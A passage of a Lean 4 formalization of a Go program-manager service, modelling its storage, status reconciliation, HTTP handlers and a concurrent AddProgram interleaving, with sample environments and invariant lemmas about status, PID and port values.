        batchStopLoop env rest (resultSet results id (.status "stopped")) (s + 1) e w2

/-- BatchStopPrograms stops multiple programs. -/
def BatchStopPrograms (env : Env) (ids : List String) (w : World) :
    (List (String × BatchEntry) × Option String) × World :=
  match batchStopLoop env ids [] 0 0 w with
  | ((results, s, e), w1) =>
    ((resultSet results "summary" (.summary ids.length s e), none), w1)

/-- What a batch start does for one id, taken alone: fetch the record, then start it. The
result is the error of that id, if any. -/
def startOne (env : Env) (id : String) (w : World) : Option String × World :=
  match GetProgramByID env id w with
  | (.error err, w1) => (some err, w1)
  | (.ok program, w1) =>
    match StartProgram env program w1 with
    | ((err, _), w2) => (err, w2)

/-- What a batch stop does for one id, taken alone: fetch the record, then stop it. -/
def stopOne (env : Env) (id : String) (w : World) : Option String × World :=
  match GetProgramByID env id w with
  | (.error err, w1) => (some err, w1)
  | (.ok program, w1) =>
    match StopProgram env program w1 with
    | ((err, _), w2) => (err, w2)

/-- Run a per-id operation on every id in order, never aborting, and collect the
errors. -/
def eachInOrder (op : String → World → Option String × World) :
    List String → World → List (Option String) × World
  | [], w => ([], w)
  | id :: rest, w =>
    match op id w with
    | (err, w1) =>
      match eachInOrder op rest w1 with
      | (errs, w2) => (err :: errs, w2)

end ProgramService

/-! ## services/program_service.go: AddProgram under concurrent callers

`FileStorage.LoadPrograms` holds the read lock and `FileStorage.SavePrograms` the write
lock of the storage mutex, each for the duration of its own body only; AddProgram takes
no lock of its own. Between the return of LoadPrograms and the call of SavePrograms
another goroutine may therefore run its own LoadPrograms or SavePrograms. The two
functions below are the two parts of AddProgram on either side of that point. -/

namespace ProgramService

/-- AddProgram from its first statement to the return of LoadPrograms: an error with
which AddProgram returns, or the catalog it has loaded. -/
def addLoadPart (env : Env) (program : Program) (w : World) :
    Except String ProgramManager × World :=
  if program.Name = "" then (.error "program name is required", w)
  else if program.Command = "" then (.error "program command is required", w)
  else
    match env.validateCommand w.tick program.Command with
    | some e => (.error ("invalid command: " ++ e), w.next)
    | none =>
      let w1 := w.next
      match (if program.WorkingDir ≠ "" then env.validateWorkingDir w1.tick program.WorkingDir
             else none) with
      | some e => (.error ("invalid working directory: " ++ e), w1.next)
      | none =>
        let w2 := w1.next
        match FileStorage.LoadPrograms env w2 with
        | (.error e, w3) => (.error ("failed to load programs: " ++ e), w3)
        | (.ok pm, w3) => (.ok pm, w3)

/-- AddProgram from the duplicate-name check to its return, on the catalog `pm` it has
loaded; `w` is the world at the moment this part runs. -/
def addSavePart (env : Env) (program : Program) (pm : ProgramManager) (w : World) :
    Option String × World :=
  if nameTaken pm program.Name program.ID = true then
    (some ("program with name " ++ "\x27" ++ program.Name ++ "\x27" ++ " already exists"), w)
  else
    let now := env.now w.tick
    let program :=
      if program.CreatedAt = 0 then { program with CreatedAt := now } else program
    let program := { program with UpdatedAt := now }
    let pm := pm.AddProgram program (env.now (w.tick + 1)) (env.now (w.tick + 2))
    match FileStorage.SavePrograms env pm (w.withTick (w.tick + 3)) with
    | (some e, w4) => (some ("failed to save program: " ++ e), w4)
    | (none, w4) => (none, w4)

/-- Two concurrent AddProgram calls scheduled as: first part of the call for `a`, first
part of the call for `b`, second part for `a`, second part for `b`. The result is the
pair of errors the two calls return. -/
def addInterleaved (env : Env) (a b : Program) (w : World) :
    (Option String × Option String) × World :=
  match addLoadPart env a w with
  | (loadedA, w1) =>
    match addLoadPart env b w1 with
    | (loadedB, w2) =>
      match (match loadedA with
             | .error e => (some e, w2)
             | .ok pmA => addSavePart env a pmA w2) with
      | (errA, w3) =>
        match (match loadedB with
               | .error e => (some e, w3)
               | .ok pmB => addSavePart env b pmB w3) with
        | (errB, w4) => ((errA, errB), w4)

end ProgramService

/-! ## services/status_service.go -/

namespace StatusService

/-- The decision step shared by GetProgramStatus, GetAllProgramsStatus and
RefreshAllStatuses: ask the process manager, and fall back to the basic check when the
enhanced validation reports an error. -/
def actual (env : Env) (program : Program) (k : Nat) : (String × Int) × Nat :=
  match ProcessManager.GetProgramStatus env program k with
  | ((_, _, some _), k1) =>
    match ProcessManager.GetProcessStatus env program.PID k1 with
    | (st, k2) => ((st, program.PID), k2)
  | ((actualStatus, actualPID, none), k1) => ((actualStatus, actualPID), k1)

/-- The body of GetProgramStatus and of the loop of GetAllProgramsStatus after the record
has been read: decide, and when the decision differs from the record, write the record
under `key` and save (the save error is discarded). -/
def reconcile (env : Env) (key : String) (program : Program) (pm : ProgramManager)
    (w : World) : Program × ProgramManager × World :=
  match actual env program w.tick with
  | ((actualStatus, actualPID), k1) =>
    if actualStatus ≠ program.Status ∨ actualPID ≠ program.PID then
      let program :=
        { program with Status := actualStatus, PID := actualPID, UpdatedAt := env.now k1 }
      let pm1 := (pm.UpdateProgram key program (env.now (k1 + 1))).1
      (program, pm1, (FileStorage.SavePrograms env pm1 (w.withTick (k1 + 2))).2)
    else (program, pm, w.withTick k1)

/-- GetProgramStatus gets the status of a specific program with enhanced validation. -/
def GetProgramStatus (env : Env) (id : String) (w : World) : Except String Program × World :=
  match FileStorage.LoadPrograms env w with
  | (.error e, w1) => (.error ("failed to load programs: " ++ e), w1)
  | (.ok pm, w1) =>
    match pm.GetProgramByID id with
    | none => (.error ("program not found: " ++ id), w1)
    | some program =>
      match reconcile env id program pm w1 with
      | (program, _, w2) => (.ok program, w2)

/-- The loop of GetAllProgramsStatus over the snapshot of the programs. -/
def allStatusLoop (env : Env) :
    List Program → ProgramManager → World → List Program × ProgramManager × World
  | [], pm, w => ([], pm, w)
  | program :: rest, pm, w =>
    match reconcile env program.ID program pm w with
    | (program1, pm1, w1) =>
      match allStatusLoop env rest pm1 w1 with
      | (result, pm2, w2) => (program1 :: result, pm2, w2)

/-- GetAllProgramsStatus gets the status of all programs with enhanced validation. -/
def GetAllProgramsStatus (env : Env) (w : World) : Except String (List Program) × World :=
  match FileStorage.LoadPrograms env w with
  | (.error e, w1) => (.error ("failed to load programs: " ++ e), w1)
  | (.ok pm, w1) =>
    match allStatusLoop env (pm.GetAllPrograms (env.order w1.tick)) pm w1.next with
    | (result, _, w2) => (.ok result, w2)

/-- The loop of RefreshAllStatuses: a `range` over the live map; every visited record is
written back and saved, changed or not. The Bool is the `updated` flag. -/
def refreshLoop (env : Env) :
    List String → ProgramManager → Bool → World → ProgramManager × Bool × World
  | [], pm, updated, w => (pm, updated, w)
  | key :: rest, pm, updated, w =>
    match mapGet pm.Programs key with
    | none => refreshLoop env rest pm updated w
    | some program =>
      match actual env program w.tick with
      | ((actualStatus, actualPID), k1) =>
        let differs : Bool := actualStatus ≠ program.Status ∨ actualPID ≠ program.PID
        let program :=
          if differs then
            { program with Status := actualStatus, PID := actualPID, UpdatedAt := env.now k1 }
          else program
        let pm1 := (pm.UpdateProgram program.ID program (env.now (k1 + 1))).1
        let w1 := (FileStorage.SavePrograms env pm1 (w.withTick (k1 + 2))).2
        refreshLoop env rest pm1 (updated || differs) w1

/-- RefreshAllStatuses refreshes the status of all programs with enhanced validation. -/
def RefreshAllStatuses (env : Env) (w : World) : Option String × World :=
  match FileStorage.LoadPrograms env w with
  | (.error e, w1) => (some ("failed to load programs: " ++ e), w1)
  | (.ok pm, w1) =>
    match refreshLoop env (rangeKeys (env.order w1.tick) pm.Programs) pm false w1.next with
    | (pm1, true, w2) =>
      match FileStorage.SavePrograms env pm1 w2 with
      | (some e, w3) => (some ("failed to save updated statuses: " ++ e), w3)
      | (none, w3) => (none, w3)
    | (_, false, w2) => (none, w2)

/-- The refresh step shared by GetRunningPrograms, GetStoppedPrograms and
GetProgramsWithMemory: the basic liveness check only. -/
def basicRefresh (env : Env) (program : Program) (pm : ProgramManager) (w : World) :
    Program × ProgramManager × World :=
  match ProcessManager.GetProcessStatus env program.PID w.tick with
  | (actualStatus, k1) =>
    if actualStatus ≠ program.Status then
      let program := { program with Status := actualStatus }
      let program := if actualStatus = "stopped" then { program with PID := 0 } else program
      let pm1 := (pm.UpdateProgram program.ID program (env.now k1)).1
      (program, pm1, (FileStorage.SavePrograms env pm1 (w.withTick (k1 + 1))).2)
    else (program, pm, w.withTick k1)

/-- The loop of GetRunningPrograms and GetStoppedPrograms: refresh every record of the
snapshot and keep those whose refreshed status is `keep`. -/
def basicLoop (env : Env) (keep : String) :
    List Program → ProgramManager → World → List Program × ProgramManager × World
  | [], pm, w => ([], pm, w)
  | program :: rest, pm, w =>
    match basicRefresh env program pm w with
    | (program1, pm1, w1) =>
      match basicLoop env keep rest pm1 w1 with
      | (result, pm2, w2) =>
        (if program1.Status = keep then program1 :: result else result, pm2, w2)

/-- GetRunningPrograms returns all running programs. -/
def GetRunningPrograms (env : Env) (w : World) : Except String (List Program) × World :=
  match FileStorage.LoadPrograms env w with
  | (.error e, w1) => (.error ("failed to load programs: " ++ e), w1)
  | (.ok pm, w1) =>
    match basicLoop env "running" (pm.GetAllPrograms (env.order w1.tick)) pm w1.next with
    | (result, _, w2) => (.ok result, w2)

/-- GetStoppedPrograms returns all stopped programs. -/
def GetStoppedPrograms (env : Env) (w : World) : Except String (List Program) × World :=
  match FileStorage.LoadPrograms env w with
  | (.error e, w1) => (.error ("failed to load programs: " ++ e), w1)
  | (.ok pm, w1) =>
    match basicLoop env "stopped" (pm.GetAllPrograms (env.order w1.tick)) pm w1.next with
    | (result, _, w2) => (.ok result, w2)

/-- One row of the reply of GetProgramsWithMemory (the megabyte figures are derived from
`memoryKB` and left out). -/
structure MemoryRow where
  id : String
  name : String
  command : String
  status : String
  pid : Int
  memoryKB : Option Int
deriving DecidableEq, Repr

/-- The loop of GetProgramsWithMemory. -/
def memoryLoop (env : Env) :
    List Program → ProgramManager → World → List MemoryRow × ProgramManager × World
  | [], pm, w => ([], pm, w)
  | program :: rest, pm, w =>
    match basicRefresh env program pm w with
    | (program1, pm1, w1) =>
      let mem : Option Int :=
        if program1.Status = "running" ∧ program1.PID > 0 then
          match env.memoryKB w1.tick program1.PID with
          | .ok kb => if kb > 0 then some kb else some 0
          | .error _ => some 0
        else none
      let row : MemoryRow :=
        { id := program1.ID, name := program1.Name, command := program1.Command,
          status := program1.Status, pid := program1.PID, memoryKB := mem }
      match memoryLoop env rest pm1 w1.next with
      | (result, pm2, w2) => (row :: result, pm2, w2)

/-- GetProgramsWithMemory returns all programs with their memory usage. -/
def GetProgramsWithMemory (env : Env) (w : World) : Except String (List MemoryRow) × World :=
  match FileStorage.LoadPrograms env w with
  | (.error e, w1) => (.error ("failed to load programs: " ++ e), w1)
  | (.ok pm, w1) =>
    match memoryLoop env (pm.GetAllPrograms (env.order w1.tick)) pm w1.next with
    | (result, _, w2) => (.ok result, w2)

end StatusService

/-! ## handlers/program_handler.go and handlers/status_handler.go -/

/-- What a handler writes as the body of its reply. -/
inductive Body where
  | text (message : String)
  | program (p : Program)
  | programs (ps : List Program)
  | updated (id : String)
  | memory (rows : List StatusService.MemoryRow)
  | empty
deriving DecidableEq, Repr

/-- The reply of a handler: HTTP status code and body. -/
structure Response where
  status : Nat
  body : Body
deriving DecidableEq, Repr

/-- Decoded body of POST /api/programs. -/
structure CreateRequest where
  Name : String
  Command : String
  WorkingDir : String
  Description : String
  Port : Int
deriving DecidableEq, Repr

/-- Decoded body of PUT /api/programs/id; the port is a pointer. -/
structure UpdateRequest where
  Name : String
  Command : String
  WorkingDir : String
  Description : String
  Port : Option Int
deriving DecidableEq, Repr

namespace ProgramHandler

/-- GetAllPrograms handles GET /api/programs. -/
def GetAllPrograms (env : Env) (w : World) : Response × World :=
  match ProgramService.GetAllPrograms env w with
  | (.error e, w1) => ({ status := 500, body := .text ("Failed to get programs: " ++ e) }, w1)
  | (.ok programs, w1) => ({ status := 200, body := .programs programs }, w1)

/-- GetProgram handles GET /api/programs/id. -/
def GetProgram (env : Env) (id : String) (w : World) : Response × World :=
  match ProgramService.GetProgramByID env id w with
  | (.error e, w1) =>
    if Contains e "not found" = true then ({ status := 404, body := .text e }, w1)
    else ({ status := 500, body := .text ("Failed to get program: " ++ e) }, w1)
  | (.ok program, w1) => ({ status := 200, body := .program program }, w1)

/-- The choice of an id in CreateProgram: generate, and retry once when the id is taken.
`none` when both candidates are taken. -/
def pickID (env : Env) (w : World) : Option String × World :=
  let id := env.newID w.tick
  match ProgramService.GetProgramByID env id w.next with
  | (.ok _, w1) =>
    let id := env.newID w1.tick
    match ProgramService.GetProgramByID env id w1.next with
    | (.ok _, w2) => (none, w2)
    | (.error _, w2) => (some id, w2)
  | (.error _, w1) => (some id, w1)

/-- CreateProgram handles POST /api/programs; `none` is a body that does not decode. -/
def CreateProgram (env : Env) (req : Option CreateRequest) (w : World) : Response × World :=
  match req with
  | none => ({ status := 400, body := .text "Invalid request body" }, w)
  | some req =>
    let name := TrimSpace req.Name
    if name = "" then ({ status := 400, body := .text "Program name is required" }, w)
    else if name.utf8ByteSize < 2 ∨ name.utf8ByteSize > 50 then
      ({ status := 400, body := .text "Program name must be 2-50 characters" }, w)
    else
      let command := TrimSpace req.Command
      if command = "" then ({ status := 400, body := .text "Program command is required" }, w)
      else if req.Port < 0 ∨ req.Port > 65535 then
        ({ status := 400, body := .text "Port must be between 0 and 65535" }, w)
      else
        match pickID env w with
        | (none, w1) =>
          ({ status := 500, body := .text "Failed to generate unique program ID" }, w1)
        | (some id, w1) =>
          let program : Program :=
            { ID := id, Name := name, Command := command,
              WorkingDir := TrimSpace req.WorkingDir,
              Description := TrimSpace req.Description,
              Port := req.Port, Status := "stopped", PID := 0,
              CreatedAt := 0, UpdatedAt := 0, AutoStart := false, RestartPolicy := "" }
          let program := if program.Port = 0 then { program with Port := -1 } else program
          match ProgramService.AddProgram env program w1 with
          | (some e, w2) =>
            if Contains e "already exists" = true then ({ status := 409, body := .text e }, w2)
            else ({ status := 500, body := .text ("Failed to create program: " ++ e) }, w2)
          | (none, w2) => ({ status := 201, body := .program program }, w2)

/-- UpdateProgram handles PUT /api/programs/id; `none` is a body that does not decode. -/
def UpdateProgram (env : Env) (id : String) (req : Option UpdateRequest) (w : World) :
    Response × World :=
  if id = "" then ({ status := 400, body := .text "Program ID is required" }, w)
  else
    match req with
    | none => ({ status := 400, body := .text "Invalid request body" }, w)
    | some req =>
      let name := TrimSpace req.Name
      let command := TrimSpace req.Command
      let description := TrimSpace req.Description
      let workingDir := TrimSpace req.WorkingDir
      match ProgramService.GetProgramByID env id w with
      | (.error e, w1) => ({ status := 500, body := .text ("Failed to get program: " ++ e) }, w1)
      | (.ok existingProgram, w1) =>
        let existingProgram :=
          { existingProgram with
            Name := name, Command := command, WorkingDir := workingDir,
            Description := description }
        let existingProgram :=
          match req.Port with
          | some port => { existingProgram with Port := port }
          | none => existingProgram
        if name = "" then ({ status := 400, body := .text "Program name is required" }, w1)
        else if command = "" then
          ({ status := 400, body := .text "Program command is required" }, w1)
        else
          match ProgramService.UpdateProgram env id existingProgram w1 with
          | (some e, w2) =>
            if Contains e "not found" = true then ({ status := 404, body := .text e }, w2)
            else if Contains e "already exists" = true then
              ({ status := 409, body := .text e }, w2)
            else ({ status := 500, body := .text ("Failed to update program: " ++ e) }, w2)
          | (none, w2) => ({ status := 200, body := .updated id }, w2)

/-- DeleteProgram handles DELETE /api/programs/id. -/
def DeleteProgram (env : Env) (id : String) (w : World) : Response × World :=
  match ProgramService.DeleteProgram env id w with
  | (some e, w1) =>
    if Contains e "not found" = true then ({ status := 404, body := .text e }, w1)
    else ({ status := 500, body := .text ("Failed to delete program: " ++ e) }, w1)
  | (none, w1) => ({ status := 204, body := .empty }, w1)

/-- StartProgram handles POST /api/programs/id/start. -/
def StartProgram (env : Env) (id : String) (w : World) : Response × World :=
  match ProgramService.GetProgramByID env id w with
  | (.error e, w1) =>
    if Contains e "not found" = true then ({ status := 404, body := .text e }, w1)
    else ({ status := 500, body := .text ("Failed to get program: " ++ e) }, w1)
  | (.ok program, w1) =>
    match ProgramService.StartProgram env program w1 with
    | ((some e, _), w2) =>
      if Contains e "already running" = true then ({ status := 409, body := .text e }, w2)
      else ({ status := 500, body := .text ("Failed to start program: " ++ e) }, w2)
    | ((none, _), w2) =>
      match ProgramService.GetProgramByID env id w2 with
      | (.error e, w3) =>
        ({ status := 500, body := .text ("Failed to get updated program: " ++ e) }, w3)
      | (.ok updatedProgram, w3) => ({ status := 200, body := .program updatedProgram }, w3)

/-- StopProgram handles POST /api/programs/id/stop. -/
def StopProgram (env : Env) (id : String) (w : World) : Response × World :=
  match ProgramService.GetProgramByID env id w with
  | (.error e, w1) =>
    if Contains e "not found" = true then ({ status := 404, body := .text e }, w1)
    else ({ status := 500, body := .text ("Failed to get program: " ++ e) }, w1)
  | (.ok program, w1) =>
    match ProgramService.StopProgram env program w1 with
    | ((some e, _), w2) =>
      if Contains e "not running" = true then ({ status := 409, body := .text e }, w2)
      else ({ status := 500, body := .text ("Failed to stop program: " ++ e) }, w2)
    | ((none, _), w2) =>
      match ProgramService.GetProgramByID env id w2 with
      | (.error e, w3) =>
        ({ status := 500, body := .text ("Failed to get updated program: " ++ e) }, w3)
      | (.ok updatedProgram, w3) => ({ status := 200, body := .program updatedProgram }, w3)

end ProgramHandler

namespace StatusHandler

/-- GetProgramStatus handles GET /api/status/id. -/
def GetProgramStatus (env : Env) (id : String) (w : World) : Response × World :=
  match StatusService.GetProgramStatus env id w with
  | (.error e, w1) =>
    if Contains e "not found" = true then ({ status := 404, body := .text e }, w1)
    else ({ status := 500, body := .text ("Failed to get program status: " ++ e) }, w1)
  | (.ok program, w1) => ({ status := 200, body := .program program }, w1)

/-- GetAllProgramsStatus handles GET /api/status. -/
def GetAllProgramsStatus (env : Env) (w : World) : Response × World :=
  match StatusService.GetAllProgramsStatus env w with
  | (.error e, w1) =>
    ({ status := 500, body := .text ("Failed to get programs status: " ++ e) }, w1)
  | (.ok programs, w1) => ({ status := 200, body := .programs programs }, w1)

/-- RefreshAllStatuses handles POST /api/programs/refresh. -/
def RefreshAllStatuses (env : Env) (w : World) : Response × World :=
  match StatusService.RefreshAllStatuses env w with
  | (some e, w1) => ({ status := 500, body := .text ("Failed to refresh statuses: " ++ e) }, w1)
  | (none, w1) =>
    match StatusService.GetAllProgramsStatus env w1 with
    | (.error e, w2) =>
      ({ status := 500, body := .text ("Failed to get updated programs: " ++ e) }, w2)
    | (.ok programs, w2) => ({ status := 200, body := .programs programs }, w2)

/-- GetRunningPrograms handles GET /api/programs/running. -/
def GetRunningPrograms (env : Env) (w : World) : Response × World :=
  match StatusService.GetRunningPrograms env w with
  | (.error e, w1) =>
    ({ status := 500, body := .text ("Failed to get running programs: " ++ e) }, w1)
  | (.ok programs, w1) => ({ status := 200, body := .programs programs }, w1)

/-- GetStoppedPrograms handles GET /api/programs/stopped. -/
def GetStoppedPrograms (env : Env) (w : World) : Response × World :=
  match StatusService.GetStoppedPrograms env w with
  | (.error e, w1) =>
    ({ status := 500, body := .text ("Failed to get stopped programs: " ++ e) }, w1)
  | (.ok programs, w1) => ({ status := 200, body := .programs programs }, w1)

/-- GetProgramsWithMemory handles GET /api/programs/memory. -/
def GetProgramsWithMemory (env : Env) (w : World) : Response × World :=
  match StatusService.GetProgramsWithMemory env w with
  | (.error e, w1) =>
    ({ status := 500, body := .text ("Failed to get programs with memory: " ++ e) }, w1)
  | (.ok rows, w1) => ({ status := 200, body := .memory rows }, w1)

end StatusHandler

/-! ## Sequences of requests -/

/-- A request to one of the handlers that read or write the catalog. -/
inductive Request where
  | list
  | get (id : String)
  | create (req : Option CreateRequest)
  | update (id : String) (req : Option UpdateRequest)
  | delete (id : String)
  | start (id : String)
  | stop (id : String)
  | status (id : String)
  | statusAll
  | refresh
  | running
  | stopped
  | memory
deriving DecidableEq, Repr

/-- Dispatch a request to its handler. -/
def handle (env : Env) (r : Request) (w : World) : Response × World :=
  match r with
  | .list => ProgramHandler.GetAllPrograms env w
  | .get id => ProgramHandler.GetProgram env id w
  | .create req => ProgramHandler.CreateProgram env req w
  | .update id req => ProgramHandler.UpdateProgram env id req w
  | .delete id => ProgramHandler.DeleteProgram env id w
  | .start id => ProgramHandler.StartProgram env id w
  | .stop id => ProgramHandler.StopProgram env id w
  | .status id => StatusHandler.GetProgramStatus env id w
  | .statusAll => StatusHandler.GetAllProgramsStatus env w
  | .refresh => StatusHandler.RefreshAllStatuses env w
  | .running => StatusHandler.GetRunningPrograms env w
  | .stopped => StatusHandler.GetStoppedPrograms env w
  | .memory => StatusHandler.GetProgramsWithMemory env w

/-- Serve the requests one after the other, each having returned before the next. -/
def serve (env : Env) : List Request → World → World
  | [], w => w
  | r :: rs, w => serve env rs (handle env r w).2

/-- A call of one of the three catalog-editing methods of ProgramService. -/
inductive ServiceCall where
  | add (program : Program)
  | update (id : String) (program : Program)
  | delete (id : String)
deriving DecidableEq, Repr

/-- Perform a service call. -/
def call (env : Env) (c : ServiceCall) (w : World) : Option String × World :=
  match c with
  | .add program => ProgramService.AddProgram env program w
  | .update id program => ProgramService.UpdateProgram env id program w
  | .delete id => ProgramService.DeleteProgram env id w

/-- Perform the service calls in order, keeping the list of their errors. -/
def callAll (env : Env) : List ServiceCall → World → List (Option String) × World
  | [], w => ([], w)
  | c :: cs, w =>
    match call env c w with
    | (e, w1) =>
      match callAll env cs w1 with
      | (es, w2) => (e :: es, w2)

/-- The world before the first request: no catalog file yet. -/
def World.initial : World := { file := none, tick := 0 }

/-! ## Sample environments and records -/

/-- An operating system in which nothing fails: storage works, every command is accepted,
every spawn yields pid 4242, every probed process is sleeping with command line `sleep 30`,
and every signal is delivered. The clock reads `100 + tick`. -/
def Env.calm : Env where
  logDir := "logs"
  now := fun k => 100 + k
  stamp := fun _ => "20240101_000000"
  newID := fun k => String.mk (List.replicate (k + 1) 'p')
  order := fun _ => []
  readErr := fun _ => none
  dirErr := fun _ => none
  writeErr := fun _ => none
  renameErr := fun _ => none
  procStatus := fun _ _ => some "Name:\tsleep\nState:\tS (sleeping)\nPid:\t4242\n"
  cmdline := fun _ _ => some (String.mk ['s', 'l', 'e', 'e', 'p', Char.ofNat 0, '3', '0', Char.ofNat 0])
  pgid := fun _ pid => .ok pid
  signal := fun _ _ _ => none
  mkdirLogErr := fun _ => none
  createErr := fun _ _ _ => none
  statOk := fun _ _ => true
  spawn := fun _ _ _ _ => .ok 4242
  validateCommand := fun _ _ => none
  validateWorkingDir := fun _ _ => none
  memoryKB := fun _ _ => .ok 1024

/-- Like `Env.calm`, but no probed process is alive and no directory exists. -/
def Env.dead : Env :=
  { Env.calm with procStatus := fun _ _ => none, statOk := fun _ _ => false }

/-- Like `Env.calm`, but no directory exists. -/
def Env.noDirs : Env :=
  { Env.calm with statOk := fun _ _ => false }

/-- Like `Env.calm`, but every probed process is `vim sleep.txt`. -/
def Env.vim : Env :=
  { Env.calm with
    cmdline := fun _ _ =>
      some (String.mk (['v', 'i', 'm', Char.ofNat 0] ++ "sleep.txt".data ++ [Char.ofNat 0])) }

/-- Like `Env.calm`, but every process is gone from tick 2 on: a process that is alive
when first probed and has exited when probed again. -/
def Env.dying : Env :=
  { Env.calm with
    procStatus := fun k _ => if k ≤ 1 then some "State:\tS (sleeping)\n" else none }

/-- Like `Env.calm`, but commands go through the command validator, on a system where
every executable exists. -/
def Env.strict : Env :=
  { Env.calm with
    validateCommand := fun _ command =>
      CommandValidator.ValidateCommand ⟨fun _ => true, fun _ => true⟩ command }

/-- A stopped record with the given id, name and command. -/
def sampleProgram (id name command : String) : Program :=
  { ID := id, Name := name, Command := command, WorkingDir := "", Description := "",
    Status := "stopped", PID := 0, Port := -1, CreatedAt := 0, UpdatedAt := 0,
    AutoStart := false, RestartPolicy := "" }

/-- The world at tick 0 whose catalog file holds the given records, each under its ID. -/
def World.holding (ps : List Program) : World :=
  { file := some { Programs := ps.map fun p => (p.ID, p), Version := "1.0" }, tick := 0 }

/-- Storage never fails from tick `k0` on. -/
def Env.storageOKFrom (env : Env) (k0 : Nat) : Prop :=
  ∀ k, k0 ≤ k →
    env.readErr k = none ∧ env.dirErr k = none ∧ env.writeErr k = none ∧ env.renameErr k = none

/-! ## Predicates used by the statements -/

/-- The status/pid agreement of one record. -/
def StatusPidOK (p : Program) : Prop :=
  (p.Status = "running" → p.PID > 0) ∧ (p.Status = "stopped" → p.PID = 0)

/-- Every record of the catalog has status and pid in agreement. -/
def Consistent (pm : ProgramManager) : Prop :=
  ∀ e ∈ pm.Programs, StatusPidOK e.2

instance (p : Program) : Decidable (StatusPidOK p) := by
  unfold StatusPidOK
  infer_instance

instance (pm : ProgramManager) : Decidable (Consistent pm) := by
  unfold Consistent
  infer_instance

/-- The port of a record is -1 or lies in [1, 65535]. -/
def PortOK (p : Program) : Prop :=
  -1 ≤ p.Port ∧ p.Port ≤ 65535 ∧ p.Port ≠ 0

/-- Every record of the catalog has a port that is -1 or lies in [1, 65535]. -/
def PortsOK (pm : ProgramManager) : Prop :=
  ∀ e ∈ pm.Programs, PortOK e.2

/-- A create request, or an update request whose body carries no port or a port that is -1
or lies in [1, 65535]. -/
def portGuarded : Request → Prop
  | .create _ => True
  | .update _ none => True
  | .update _ (some req) =>
    match req.Port with
    | none => True
    | some port => -1 ≤ port ∧ port ≤ 65535 ∧ port ≠ 0
  | _ => False

instance (p : Program) : Decidable (PortOK p) := by
  unfold PortOK
  infer_instance

instance (pm : ProgramManager) : Decidable (PortsOK pm) := by
  unfold PortsOK
  infer_instance

/-! ## Basic facts about maps, storage and ticks -/

theorem mapGet_mem {m : List (String × Program)} {k : String} {v : Program}
    (h : mapGet m k = some v) : (k, v) ∈ m := by
  induction m with
  | nil => simp [mapGet] at h
  | cons e rest ih =>
    obtain ⟨k1, v1⟩ := e
    unfold mapGet at h
    split at h
    · rename_i hk
      simp only [Option.some.injEq] at h
      subst hk; subst h
      exact List.mem_cons_self _ _
    · exact List.mem_cons_of_mem _ (ih h)

theorem mem_mapSet {m : List (String × Program)} {k : String} {v : Program}
    {e : String × Program} (h : e ∈ mapSet m k v) : e = (k, v) ∨ e ∈ m := by
  induction m with
  | nil =>
    simp only [mapSet, List.mem_singleton] at h
    exact Or.inl h
  | cons e1 rest ih =>
    obtain ⟨k1, v1⟩ := e1
    unfold mapSet at h
    split at h
    · rcases List.mem_cons.1 h with h | h
      · exact Or.inl h
      · exact Or.inr (List.mem_cons_of_mem _ h)
    · rcases List.mem_cons.1 h with h | h
      · exact Or.inr (h ▸ List.mem_cons_self _ _)
      · rcases ih h with h | h
        · exact Or.inl h
        · exact Or.inr (List.mem_cons_of_mem _ h)

theorem mem_mapDelete {m : List (String × Program)} {k : String}
    {e : String × Program} (h : e ∈ mapDelete m k) : e ∈ m :=
  (List.mem_filter.1 h).1

theorem mem_rangeKeys (hint : List String) (m : List (String × Program)) (k : String) :
    k ∈ rangeKeys hint m ↔ k ∈ m.map Prod.fst := by
  unfold rangeKeys
  rw [List.mem_append, List.mem_dedup, List.mem_filter, List.mem_filter]
  have hc : ∀ l : List String, l.contains k = true ↔ k ∈ l := fun l => by
    simp [List.contains_eq_any_beq]
  constructor
  · rintro (⟨_, h⟩ | ⟨h, _⟩)
    · exact (hc _).1 h
    · exact h
  · intro h
    by_cases hk : k ∈ hint
    · exact Or.inl ⟨hk, (hc _).2 h⟩
    · refine Or.inr ⟨h, ?_⟩
      cases hb : hint.contains k with
      | true => exact absurd ((hc _).1 hb) hk
      | false => rfl

theorem catalog_next (w : World) : w.next.catalog = w.catalog := rfl

theorem catalog_withTick (w : World) (k : Nat) : (w.withTick k).catalog = w.catalog := rfl

theorem Load_world (env : Env) (w : World) :
    (FileStorage.LoadPrograms env w).2 = w.next := by
  unfold FileStorage.LoadPrograms
  split
  · rfl
  · split <;> rfl

theorem Load_ok {env : Env} {w : World} {pm : ProgramManager}
    (h : (FileStorage.LoadPrograms env w).1 = .ok pm) : pm = w.catalog := by
  unfold FileStorage.LoadPrograms at h
  unfold World.catalog
  split at h
  · simpa using h.symm
  · split at h
    · simp at h
    · simpa using h.symm

theorem Save_catalog (env : Env) (pm : ProgramManager) (w : World) :
    ((FileStorage.SavePrograms env pm w).1 = none ∧
        (FileStorage.SavePrograms env pm w).2.catalog = pm) ∨
      ((FileStorage.SavePrograms env pm w).1 ≠ none ∧
        (FileStorage.SavePrograms env pm w).2.catalog = w.catalog) := by
  unfold FileStorage.SavePrograms
  split
  · exact Or.inr ⟨by simp, rfl⟩
  · split
    · exact Or.inr ⟨by simp, rfl⟩
    · split
      · exact Or.inr ⟨by simp, rfl⟩
      · exact Or.inl ⟨rfl, rfl⟩

theorem Load_eq_ok {env : Env} {w w1 : World} {pm : ProgramManager}
    (h : FileStorage.LoadPrograms env w = (.ok pm, w1)) :
    pm = w.catalog ∧ w1 = w.next := by
  have h1 := Load_world env w
  have h2 : (FileStorage.LoadPrograms env w).1 = .ok pm := by rw [h]
  rw [h] at h1
  exact ⟨Load_ok h2, h1⟩

theorem Load_eq_error {env : Env} {w w1 : World} {e : String}
    (h : FileStorage.LoadPrograms env w = (.error e, w1)) : w1 = w.next := by
  have h1 := Load_world env w
  rw [h] at h1
  exact h1

theorem Save_eq {env : Env} {pm : ProgramManager} {w w1 : World} {r : Option String}
    (h : FileStorage.SavePrograms env pm w = (r, w1)) :
    (r = none ∧ w1.catalog = pm) ∨ (r ≠ none ∧ w1.catalog = w.catalog) := by
  have h1 := Save_catalog env pm w
  rw [h] at h1
  exact h1

/-! ## Status/pid agreement is preserved -/

theorem StatusPidOK_updatedAt {p : Program} (t : Time) (h : StatusPidOK p) :
    StatusPidOK { p with UpdatedAt := t } := h

theorem StatusPidOK_stopped (p : Program) :
    StatusPidOK { p with Status := "stopped", PID := 0 } := by
  simp [StatusPidOK]

theorem StatusPidOK_running (p : Program) (pid : Int) (h : 0 < pid) :
    StatusPidOK { p with Status := "running", PID := pid } := by
  simp [StatusPidOK, h]

